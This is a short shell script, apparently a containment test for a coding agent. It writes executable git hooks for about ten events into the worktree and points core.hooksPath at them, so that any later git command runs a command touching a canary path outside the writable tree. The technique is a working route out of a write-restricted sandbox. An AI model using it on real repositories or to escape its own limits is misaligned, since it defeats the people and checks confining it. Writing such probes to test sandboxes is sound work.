#!/bin/sh
# env: PWN = canary path outside; cwd = the tree the coder may write.
C=$(git rev-parse --git-common-dir 2>/dev/null || echo .git); G=$(git rev-parse --git-dir 2>/dev/null || echo .git); SC="/usr/bin/touch $PWN"

# TRY: core.hooksPath to a dir in the worktree, every hook
mkdir -p .h; for h in pre-commit commit-msg post-commit post-checkout pre-push post-index-change reference-transaction post-rewrite pre-auto-gc prepare-commit-msg; do printf '#!/bin/sh\n%s\n' "$SC" > .h/$h; chmod +x .h/$h; done
git config core.hooksPath "$PWD/.h"
